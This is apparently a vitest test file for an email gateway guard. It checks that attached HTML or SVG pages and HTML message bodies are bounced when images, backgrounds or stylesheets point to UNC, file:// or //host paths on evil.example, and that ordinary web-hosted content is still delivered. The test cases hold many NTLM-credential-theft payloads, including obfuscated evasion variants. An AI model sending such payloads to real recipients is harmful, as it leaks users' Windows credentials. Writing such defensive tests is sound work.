import { type SesReceiptVerdicts, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { sesGuardKit } from './ses-guard-kit.js';
import { useTwinStack } from './twin-kit.js';

// Attacker round 119 (an outside sender, the guard at its defaults): a page that makes Windows sign in to a computer
// the sender chose as it is shown. An attached HTML page or SVG opened from the disk resolves `file://host/…`,
// `\\host\share\…` and `//host/…` (the page's own scheme is `file:`) in an `<img src>`, a `background`, a stylesheet's
// `url()` or `@import`: the browser reads the picture over SMB and Windows signs in as the user (ntlm_theft's `.htm`).
// Outlook draws an HTML body's pictures the same way (its conditional comments included), and an attached message's
// body as it opens. Round 118 read documents' links, not pages' sources: all of these were delivered. A hyperlink
// (`<a href>`, followed on a click) and pictures on a web server are delivered.
const stack = useTwinStack();
const kit = attackerKit(stack);
const sesGuard = sesGuardKit(stack);
const PASS: SesReceiptVerdicts = { spam: 'PASS', virus: 'PASS', spf: 'PASS', dkim: 'PASS', dmarc: 'PASS' };
const page = (body: string, head = '', bodyAttributes = '') =>
  Buffer.from(
    `<!DOCTYPE html><html><head><title>Invoice</title>${head}</head><body${bodyAttributes}>${body}</body></html>`,
  );
const svg = (inner: string) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">${inner}</svg>`,
  );
const verdict = async (name: string, file: Buffer, type = 'application/octet-stream') =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
// An HTML message whose body (an alternative to a plain one, as Outlook sends) is `html`.
const htmlBody = (html: string) =>
  mail(
    ['From: x@evil.example', 'Content-Type: multipart/alternative; boundary="a"'],
    [
      '--a',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Please see the invoice.',
      '--a',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--a--',
      '',
    ].join('\r\n'),
  );
// A message carrying, as an attachment, a message whose HTML body is `html`.
const forwarded = (html: string) =>
  mail(
    ['From: x@evil.example', MIXED],
    withPart(
      [
        'Content-Type: message/rfc822',
        'Content-Disposition: attachment; filename="Invoice.eml"',
        '',
        'From: billing@vendor.example',
        'Subject: Invoice',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        '',
        html,
      ].join('\r\n'),
    ),
  );

describe('A119-1: an attached page whose picture or style is on another computer (bounced)', () => {
  const cases: Record<string, [string, Buffer, string?]> = {
    'an <img> by file://host': ['Invoice.html', page('<img src="file://evil.example/s/logo.png">')],
    'an <img> by a UNC path': ['Invoice.html', page('<img src="\\\\evil.example\\s\\logo.png">')],
    'an <img> by //host (file: from the disk)': [
      'Invoice.htm',
      page('<img src="//evil.example/s/logo.png">'),
    ],
    'an <img> by file:///\\\\host': ['Invoice.html', page('<img src="file:///\\\\evil.example\\s\\a.png">')],
    'an <img> on a WebDAV share': [
      'Invoice.html',
      page('<img src="\\\\evil.example@SSL\\DavWWWRoot\\a.png">'),
    ],
    'an <img> in upper case, spaced': ['Invoice.html', page('<IMG SRC="  FILE://EVIL.EXAMPLE/S/A.PNG  ">')],
    'an <img> with a tab in the scheme': ['Invoice.html', page('<img src="fi\tle://evil.example/s/a.png">')],
    'an unquoted <img> source': ['Invoice.html', page('<img src=\\\\evil.example\\s\\a.png>')],
    'a srcset candidate': [
      'Invoice.html',
      page('<img src="a.png" srcset="a.png 1x, //evil.example/b.png 2x">'),
    ],
    'a body background': ['Invoice.html', page('x', '', ' background="\\\\evil.example\\s\\bg.png"')],
    'a stylesheet link': [
      'Invoice.html',
      page('x', '<link rel="stylesheet" href="\\\\evil.example\\s\\a.css">'),
    ],
    'a video poster': ['Invoice.html', page('<video poster="file://evil.example/p.png"></video>')],
    'a base address': ['Invoice.html', page('<img src="logo.png">', '<base href="file://evil.example/s/">')],
    'a style attribute url()': [
      'Invoice.html',
      page('<div style="background:url(//evil.example/s/a.png)">x</div>'),
    ],
    'a style attribute url() in &quot;': [
      'Invoice.html',
      page('<div style="background-image:url(&quot;file://evil.example/a.png&quot;)">x</div>'),
    ],
    'a <style> @import of a UNC path': [
      'Invoice.html',
      page('x', '<style>@import "\\\\\\\\evil.example\\\\s\\\\a.css";</style>'),
    ],
    'a <style> url() with CSS escapes': [
      'Invoice.html',
      page('x', '<style>body{background:url(\\2f\\2f evil.example/a.png)}</style>'),
    ],
    'a <style> url() with a spaced string': [
      'Invoice.html',
      page('x', '<style>body{background:url( "  //evil.example/a.png" )}</style>'),
    ],
    'an SVG <image xlink:href>': [
      'Logo.svg',
      svg('<image xlink:href="file://evil.example/s/a.png"/>'),
      'image/svg+xml',
    ],
    'an SVG <image href> by a UNC path': ['Logo.svg', svg('<image href="\\\\evil.example\\s\\a.png"/>')],
    'an SVG <style> url()': [
      'Logo.svg',
      svg('<style>rect{fill:url(//evil.example/s/p.svg#g)}</style><rect/>'),
    ],
    'a page in a zip': [
      'Invoice.zip',
      zipFile([{ name: 'Invoice.html', data: page('<img src="\\\\evil.example\\s\\a.png">') }]),
    ],
  };
  for (const [label, [name, file, type]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file, type)).toBe('BOUNCE');
    });
  }
  it('guard-ses: the page is not delivered (a page with a web picture is)', async () => {
    const [unc] = attachedFile('Invoice.html', page('<img src="\\\\evil.example\\s\\a.png">'));
    const [web] = attachedFile('Invoice.html', page('<img src="https://cdn.example/a.png">'));
    expect(await sesGuard(unc, PASS, 'x@evil.example')).toEqual({ disposition: 'STOP_RULE_SET' });
    expect(await sesGuard(web, PASS, 'x@evil.example')).toEqual({ disposition: 'CONTINUE' });
  });
});

describe("A119-2: an HTML body (or an attached message's) whose picture is on another computer (bounced)", () => {
  const cases: Record<string, Buffer> = {
    'an <img> by a UNC path': htmlBody('<p>Invoice</p><img src="\\\\evil.example\\s\\a.png">'),
    'an <img> by file://host': htmlBody('<p>Invoice</p><img src="file://evil.example/s/a.png" width="1">'),
    'a cell background by file:///\\\\host': htmlBody(
      '<table><tr><td background="file:///\\\\evil.example\\s\\a.png">x</td></tr></table>',
    ),
    'a <style> url() by a UNC path': htmlBody(
      '<style>td{background:url("\\\\\\\\evil.example\\\\s\\\\a.png")}</style><table><tr><td>x</td></tr></table>',
    ),
    'a style url() by numeric references (backslashes as written)': htmlBody(
      '<div style="background:url(&#92;&#92;evil.example&#92;s&#92;a.png)">x</div>',
    ),
    'a VML picture in a conditional comment': htmlBody(
      '<!--[if gte mso 9]><v:rect><v:fill type="tile" src="\\\\evil.example\\s\\a.png"/></v:rect><![endif]--><p>x</p>',
    ),
    "an attached message's body": forwarded('<p>Invoice</p><img src="\\\\evil.example\\s\\a.png">'),
  };
  for (const [label, message] of Object.entries(cases)) {
    it(label, async () => {
      expect((await kit.inbound(message)).verdict).toBe('BOUNCE');
    });
  }
});

describe('A119-3: controls (delivered)', () => {
  const files: Record<string, [string, Buffer]> = {
    'pictures on a web server, in the package and on the drive': [
      'Invoice.html',
      page(
        '<img src="https://cdn.example/a.png"><img src="images/a.png"><img src="file:///C:/Users/Public/a.png"><img src="C:\\x.png" srcset="b.png 2x, https://cdn.example/c.png 3x">',
        '<link rel="stylesheet" href="https://cdn.example/site.css"><style>body{background:url("bg.png")} q::before{content:"\\201C"} @import url(https://cdn.example/x.css);</style>',
      ),
    ],
    'hyperlinks to a share (followed on a click)': [
      'Links.html',
      page(
        '<a href="\\\\files.example\\share\\Q3.docx">Q3</a> <a href="file://files.example/s/Q3.xlsx">sheet</a>',
      ),
    ],
    'an SVG with a picture in the file': [
      'Logo.svg',
      svg('<image href="data:image/png;base64,iVBORw0KGgo="/><a href="//x.example/y"><rect/></a>'),
    ],
  };
  for (const [label, [name, file]] of Object.entries(files)) {
    it(label, async () => {
      expect(await verdict(name, file)).toBe('DEFAULT');
    });
  }
  it("an HTML body with web pictures, links to a share, Outlook's conditional comments and references", async () => {
    const body = htmlBody(
      '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><v:fill src="https://cdn.example/bg.png"/><![endif]-->' +
        '<p style="font-family:&quot;Calibri&quot;,&#39;Arial&#39;;background:url(https://cdn.example/a.png)">Hello &amp; welcome</p>' +
        '<img src="cid:logo@x" alt="logo"><img src="https://cdn.example/a.png"><a href="\\\\files\\share\\Q3.docx">\\\\files\\share\\Q3.docx</a>' +
        '<p>Paths such as //host/x or \\\\host\\x written as text</p>' +
        // Google Calendar's invitations: fonts by `//host/…`, which a body reads against the message's own scheme.
        '<!--[if !mso]><!--><style>@font-face{font-family:Roboto;src:url(//fonts.gstatic.com/s/roboto/v18/a.ttf) format("truetype")}</style><!--<![endif]-->',
    );
    const { verdict, delivered } = await kit.inbound(body);
    expect(verdict).toBe('DEFAULT');
    expect(delivered.toString('latin1')).toContain('Hello &amp; welcome');
  });
});
